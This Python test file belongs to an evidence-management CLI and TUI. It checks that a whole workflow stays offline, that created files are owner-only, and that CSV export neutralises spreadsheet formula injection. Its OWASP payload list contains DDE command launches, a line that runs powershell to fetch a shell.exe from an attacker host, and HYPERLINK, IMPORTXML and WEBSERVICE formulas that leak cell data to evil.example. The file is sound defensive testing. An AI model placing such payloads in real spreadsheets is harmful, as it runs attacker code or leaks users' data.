"""Nothing let out: a whole workflow with network sockets forbidden, files created owner-only,
and CSV cells a spreadsheet would run neutralised for every OWASP formula-injection form."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import socket
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner

from evidence_tui.cli import cli
from evidence_tui.exporters.csv_export import neutralise, write_csv

SAMPLE_DATA = Path(__file__).resolve().parent.parent / "sample_data"
BALTIC = "Russia offers army contracts to migrants held after trying to reach Finland"


def invoke(*args: str):
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, (args, result.output)
    return result


@pytest.fixture
def no_network(monkeypatch):
    """Forbid every network socket in this process; record each attempt (the test fails on any).

    The event loop's own AF_UNIX socketpair (Textual's asyncio wake-up pipe) is local to the
    process and allowed; anything that could reach a network is refused and recorded.
    """
    attempts: list[str] = []
    original_init = socket.socket.__init__

    def guarded_init(self, family=-1, type=-1, proto=-1, fileno=None):
        if fileno is None and family not in (socket.AF_UNIX, -1):
            attempts.append(f"socket(family={family})")
            raise OSError("network access is forbidden in this test")
        if fileno is None and family == -1:
            attempts.append("socket(default family AF_INET)")
            raise OSError("network access is forbidden in this test")
        original_init(self, family, type, proto, fileno)

    def refuse(name):
        def refused(*args, **kwargs):
            attempts.append(name)
            raise OSError(f"network access is forbidden in this test ({name})")
        return refused

    monkeypatch.setattr(socket.socket, "__init__", guarded_init)
    for name in ("connect", "connect_ex", "sendto", "bind"):
        monkeypatch.setattr(socket.socket, name, refuse(f"socket.{name}"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", refuse("gethostbyname"))
    yield attempts
    assert attempts == [], f"the workflow tried to use the network: {attempts}"


def private(path: Path) -> bool:
    return stat.S_IMODE(os.stat(path).st_mode) == 0o600


def test_the_guard_really_refuses_sockets(no_network):
    with pytest.raises(OSError):
        socket.create_connection(("example.org", 80))
    with pytest.raises(OSError):
        socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    no_network.clear()  # these two were the test's own


def test_a_whole_workflow_offline_with_private_files(no_network, tmp_path):
    old_umask = os.umask(0o022)  # the usual umask: files would be world-readable by default
    try:
        _workflow(tmp_path)
    finally:
        os.umask(old_umask)


def _workflow(tmp_path: Path) -> None:
    from evidence_tui.config import data_dir
    from evidence_tui.domain import codebook as codebook_domain
    from evidence_tui.domain import excerpts as excerpts_domain
    from evidence_tui.domain import sources as sources_domain
    from evidence_tui.store import CaseFile
    from evidence_tui.store import backup as backups
    from evidence_tui.tui.app import EvidenceApp
    from tests.tui_util import settle

    db = tmp_path / "case.db"
    invoke("init", "--db", str(db))
    invoke("import", "--db", str(db), str(SAMPLE_DATA / "articles"))
    invoke("codebook", "load", "--db", str(db), str(SAMPLE_DATA / "codebook.toml"))
    types = json.loads(invoke("codebook", "list", "--db", str(db), "--json").stdout)
    source = next(s for s in json.loads(invoke("sources", "--db", str(db), "--json").stdout) if s["title"] == BALTIC)
    excerpt = json.loads(invoke("excerpt", "add", "--db", str(db), source["id"], "--quote", "army contracts",
                                "--type", types[0]["name"], "--json").stdout)
    invoke("excerpt", "tag", "--db", str(db), excerpt["id"], types[1]["name"])
    invoke("excerpt", "status", "--db", str(db), excerpt["id"], "accepted")
    claim = json.loads(invoke("claim", "add", "--db", str(db), "Migrants were offered contracts", "--json").stdout)
    invoke("claim", "link", "--db", str(db), claim["id"], "--excerpt", excerpt["id"])
    invoke("entity", "add", "--db", str(db), "Border guard", "--kind", "organisation")
    assert json.loads(invoke("search", "--db", str(db), "--json", "contracts").stdout)
    out_csv, out_json = tmp_path / "out.csv", tmp_path / "out.json"
    invoke("export", "csv", "--db", str(db), "-o", str(out_csv))
    invoke("export", "json", "--db", str(db), "-o", str(out_json))
    invoke("excerpt", "note", "--db", str(db), excerpt["id"], "to undo")
    invoke("undo", "--db", str(db))
    copy = tmp_path / "copy.db"
    invoke("backup", "--db", str(db), str(copy))
    invoke("check", "--db", str(db))

    # The app, headless, on the same case file: browse every screen and write through it.
    async def run():
        case = CaseFile.open(db, actor="tester")
        app = EvidenceApp(case)
        async with app.run_test(size=(120, 40)) as pilot:
            await settle(app, pilot)
            for key in ("f2", "f3", "f4", "f5", "f1"):
                await pilot.press(key)
                await settle(app, pilot)
            app.db.submit(codebook_domain.add_type, "Added offline")
            app.db.submit(excerpts_domain.add_excerpt, source["id"], quote="Finland", occurrence=1)
            await settle(app, pilot)
            await pilot.press("q")
        case.close()

    asyncio.run(run())
    assert "Added offline" in invoke("codebook", "list", "--db", str(db)).stdout
    # A WAL left open while another connection holds the file, to check its mode too.
    holder = CaseFile.open(db)
    sources_domain.update_source(holder, source["id"], notes="keeps the WAL alive")
    wal, shm = Path(f"{db}-wal"), Path(f"{db}-shm")
    assert wal.exists() and shm.exists()
    files = [db, wal, shm, copy, out_csv, out_json, *backups.rolling_backups(db)]
    try:
        assert all(private(path) for path in files), {str(p): oct(stat.S_IMODE(os.stat(p).st_mode)) for p in files}
    finally:
        holder.close()
    assert backups.rolling_backups(db), "the reopened case file should have a daily backup"
    assert stat.S_IMODE(os.stat(data_dir()).st_mode) == 0o700


# -- CSV formula injection (OWASP) ---------------------------------------------------------------

OWASP_PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "=+-@",
    "-5",
]
# Not at the start, a formula character is harmless; separators and quotes must not open cells.
SAFE_BUT_TRICKY = [
    'a,=1+1', 'a;=1+1', 'x",=1+1,"', "a\n=1+1", "'=already quoted", " =1+1 (leading space)", "=",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_owasp_formula_form_is_neutralised(payload):
    assert neutralise(payload) == "'" + payload
    rows = [{"quote": payload, "note": payload, "source_title": payload, "url": payload, "claims": [payload]}]
    out = io.StringIO(newline="")
    write_csv(rows, out, columns=("quote", "note", "source_title", "url", "claims"))
    (header, row) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["'" + payload] * 5
    # --raw keeps the cell exactly.
    raw = io.StringIO(newline="")
    write_csv(rows, raw, columns=("quote", "note", "source_title", "url", "claims"), raw=True)
    assert list(csv.reader(io.StringIO(raw.getvalue(), newline="")))[1] == [payload] * 5


@pytest.mark.parametrize("value", SAFE_BUT_TRICKY)
def test_separators_and_quotes_never_open_a_new_cell(value):
    out = io.StringIO(newline="")
    write_csv([{"quote": value, "note": "next"}], out, columns=("quote", "note"))
    (_header, row) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[1] == "next" and len(row) == 2
    assert row[0] == (("'" + value) if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value)


def test_formula_payloads_in_a_real_export(tmp_path):
    db = tmp_path / "case.db"
    article = tmp_path / "payload.txt"
    article.write_text("=HYPERLINK(\"http://evil.example\",\"x\")\n\n@SUM(1+9) and -2+3+cmd|' /C calc'!A0 end.\n",
                       encoding="utf-8")
    invoke("import", "--db", str(db), str(article))
    (source,) = json.loads(invoke("sources", "--db", str(db), "--json").stdout)
    invoke("excerpt", "add", "--db", str(db), source["id"], "--quote", "@SUM(1+9)", "--note", "+1+1")
    invoke("excerpt", "add", "--db", str(db), source["id"], "--quote", "-2+3+cmd|' /C calc'!A0")
    out = tmp_path / "out.csv"
    invoke("export", "csv", "--db", str(db), "-o", str(out))
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["quote"] for r in rows] == ["'@SUM(1+9)", "'-2+3+cmd|' /C calc'!A0"]
    assert rows[0]["note"] == "'+1+1" and rows[0]["source_title"].startswith("'=HYPERLINK(")
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert private(out)
